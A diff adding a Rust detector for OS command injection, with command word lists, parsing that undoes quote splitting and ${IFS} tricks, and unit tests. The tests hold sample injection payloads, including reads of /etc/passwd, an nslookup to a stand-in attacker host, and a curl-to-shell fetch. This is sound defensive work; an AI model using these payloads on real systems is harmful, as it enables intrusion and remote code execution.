@@ -1,0 +1,195 @@
+//! OS command injection: a shell separator or substitution, then a command.
+//!
+//! Input: a normalized value (lower-case, blanks folded, newlines kept) and its byte classes.
+//! Output: confirmed or suspicious. Confirmed when a separator (`;`, `|`, `||`, `&`, `&&`, a
+//! newline) or the opening of a substitution (`$(`, a backtick) is followed by a command:
+//! either one that only a shell runs (`whoami`, `uname`, `wget`, `nslookup`, `powershell`,
+//! `/bin/sh`…), or a common word that is also a command (`id`, `ls`, `cat`, `ping`, `dir`…)
+//! used the way a shell would: alone, or with an option, a path or an address after it
+//! (`; id`, `| cat /etc/passwd`, `& ping -n 3 127.0.0.1`). Quote and backslash splitting of the
+//! command (`c'a't`, `w\hoami`) and `${IFS}` for a blank are undone. Prose such as
+//! "Tom & Jerry", "terms; id cards" or "rock | ping pong" stays unconfirmed; a backtick in a
+//! sentence (Markdown code) only counts after a separator or at the value's start.
+
+use super::classes::{self, Mask};
+
+/// Commands no one types in prose: one after a separator is enough.
+const STRONG: &[&[u8]] = &[
+    b"whoami", b"uname", b"ifconfig", b"ipconfig", b"wget", b"nslookup", b"netcat", b"ncat", b"powershell", b"pwsh",
+    b"systeminfo", b"tasklist", b"certutil", b"bitsadmin", b"mkfifo", b"busybox", b"wscript", b"cscript", b"mshta",
+    b"rundll32", b"regsvr32", b"getent", b"printenv", b"sysinfo", b"netstat", b"usleep",
+];
+
+/// Words that are also commands or words: they need a shell-like argument after them (or, after
+/// `;`, `|` or `&`, nothing: `; id` ends the value).
+const WEAK: &[&[u8]] = &[
+    b"id", b"ls", b"cat", b"pwd", b"ping", b"echo", b"dir", b"type", b"ver", b"net", b"env", b"find", b"head",
+    b"tail", b"more", b"less", b"grep", b"awk", b"sed", b"kill", b"ps", b"who", b"w", b"set", b"host", b"touch",
+    b"cp", b"mv", b"tar", b"ip", b"su", b"sudo", b"xargs", b"start", b"call", b"exec", b"eval", b"nohup", b"time",
+    b"curl", b"nc", b"bash", b"sh", b"zsh", b"ksh", b"csh", b"telnet", b"chmod", b"passwd", b"perl", b"python",
+    b"python3", b"php", b"ruby", b"cmd", b"base64", b"xterm", b"hostname", b"dig", b"gcc", b"rm", b"sleep", b"uptime",
+    b"timeout", b"uname", b"whoami",
+];
+
+/// Skips blanks and `${IFS}`-style blanks from `i`.
+fn skip_blanks(s: &[u8], mut i: usize) -> usize {
+    loop {
+        if i < s.len() && matches!(s[i], b' ' | b'\t') {
+            i += 1;
+        } else if s[i.min(s.len())..].starts_with(b"${ifs}") {
+            i += 6;
+        } else if s[i.min(s.len())..].starts_with(b"$ifs") {
+            i += 4;
+        } else {
+            return i;
+        }
+    }
+}
+
+/// Reads the command word at `s[i..]`, dropping the quotes and backslashes that split it and a
+/// leading path (`/usr/bin/id` is `id`). Returns the word (at most 16 bytes) and where it ends.
+fn command_word(s: &[u8], mut i: usize) -> ([u8; 16], usize, usize) {
+    let mut w = [0u8; 16];
+    let mut n = 0;
+    let start = i;
+    while i < s.len() && i - start < 64 {
+        match s[i] {
+            b'\'' | b'"' | b'\\' => {}
+            b'/' => n = 0,
+            b @ (b'a'..=b'z' | b'0'..=b'9' | b'.' | b'_' | b'-') => {
+                if n == w.len() {
+                    return (w, 0, i);
+                }
+                w[n] = b;
+                n += 1;
+            }
+            _ => break,
+        }
+        i += 1;
+    }
+    (w, n, i)
+}
+
+/// What follows a weak command word looks like shell arguments: nothing, another separator or a
+/// redirection, an option, a path, a variable, or a number/address.
+fn shell_argument(s: &[u8], end: usize, may_end: bool) -> bool {
+    let j = skip_blanks(s, end);
+    match s.get(j) {
+        None => may_end,
+        Some(b'\n' | b';' | b'|' | b'&' | b'>' | b'<' | b'`' | b')' | b'#') => true,
+        Some(b'-' | b'/' | b'.' | b'$' | b'~' | b'%' | b'\\' | b'*') => true,
+        Some(b'0'..=b'9') => j > end,
+        Some(b'c') => s[j..].starts_with(b"c:\\") || s[j..].starts_with(b"c:/"),
+        Some(b'h' | b'f') => [&b"http://"[..], b"https://", b"ftp://"].iter().any(|p| s[j..].starts_with(p)),
+        _ => false,
+    }
+}
+
+/// Whether the command at `s[i..]` is one. Returns (confirmed, suspicious). `weak_ok`: a weak
+/// word may count (not when a word hugs an `&`, as in a URL's query); `may_end`: the value may end
+/// right after it.
+fn command_at(s: &[u8], i: usize, weak_ok: bool, may_end: bool) -> (bool, bool) {
+    let i = skip_blanks(s, i);
+    let (w, n, end) = command_word(s, i);
+    if n == 0 {
+        return (false, false);
+    }
+    let word = &w[..n];
+    let word = word.strip_suffix(b".exe").unwrap_or(word);
+    if STRONG.contains(&word) {
+        return (s.get(end).is_none_or(|&b| !b.is_ascii_alphanumeric()), true);
+    }
+    if WEAK.contains(&word) {
+        return (weak_ok && shell_argument(s, end, may_end), true);
+    }
+    (false, false)
+}
+
+/// Looks for command injection in a normalized value. Returns (confirmed, suspicious).
+pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
+    use classes::{AMP, BACKTICK, DOLLAR, NEWLINE, PIPE, SEMI};
+    if mask & (SEMI | PIPE | AMP | NEWLINE | BACKTICK | DOLLAR) == 0 {
+        return (false, false);
+    }
+    let mut suspicious = false;
+    for (i, &b) in s.iter().enumerate() {
+        let after = match b {
+            b';' | b'|' | b'&' | b'\n' => i + 1 + usize::from(matches!(s.get(i + 1), Some(b'|' | b'&'))),
+            b'$' if s.get(i + 1) == Some(&b'(') => i + 2,
+            // A backtick at the start, or after a separator, blank or quote: not Markdown prose.
+            b'`' if i == 0 || matches!(s[i - 1], b';' | b'|' | b'&' | b'\'' | b'"' | b'(' | b'=' | b'\n') => i + 1,
+            b'`' => {
+                suspicious |= command_at(s, i + 1, true, false).1;
+                continue;
+            }
+            _ => continue,
+        };
+        // A single `&` hugged by words (`a=1&cat=2`) is a query string, not a separator.
+        let hugged = b == b'&' && after == i + 1 && i > 0 && s[i - 1].is_ascii_alphanumeric() && s.get(after).is_some_and(u8::is_ascii_alphanumeric);
+        let (c, sus) = command_at(s, after, !hugged, b != b'\n');
+        if c {
+            return (true, true);
+        }
+        suspicious |= sus;
+    }
+    suspicious |= memchr::memmem::find(s, b"/bin/sh").is_some() || memchr::memmem::find(s, b"${ifs}").is_some();
+    (false, suspicious)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cmd(s: &str) -> (bool, bool) {
+        let lower = s.to_ascii_lowercase();
+        detect(lower.as_bytes(), classes::mask(lower.as_bytes()))
+    }
+
+    #[test]
+    fn separators_and_substitutions_then_a_command_are_confirmed() {
+        for p in [
+            "; id",
+            "1;id",
+            "| cat /etc/passwd",
+            "x || whoami",
+            "a && whoami",
+            "$(whoami)",
+            "`id`",
+            "127.0.0.1\nls -la",
+            "& dir c:\\",
+            "| type c:\\windows\\win.ini",
+            "; powershell -enc SQBFAFgA",
+            "1;cat${IFS}/etc/passwd",
+            ";c'a't /etc/passwd",
+            "| /usr/bin/id",
+            "& ping -n 3 127.0.0.1 &",
+            "; sleep 5",
+            "|nslookup x.attacker.example",
+            "$(curl http://x.example/s.sh|sh)",
+            "; ls",
+        ] {
+            assert!(cmd(p).0, "{p}");
+        }
+    }
+
+    #[test]
+    fn prose_with_separators_stays_unconfirmed() {
+        for t in [
+            "Tom & Jerry",
+            "terms & conditions; id cards accepted",
+            "rock | ping pong",
+            "Q&A session; type your question",
+            "run `ls -la` in the folder",
+            "a=1&b=2&cat=shoes",
+            "Meet me at 5; more later",
+            "Salt & pepper",
+        ] {
+            assert!(!cmd(t).0, "{t}");
+        }
+    }
+
+    #[test]
+    fn markdown_code_is_only_suspicious() {
+        assert_eq!(cmd("run `ls -la` in the folder"), (false, true));
+    }
+}
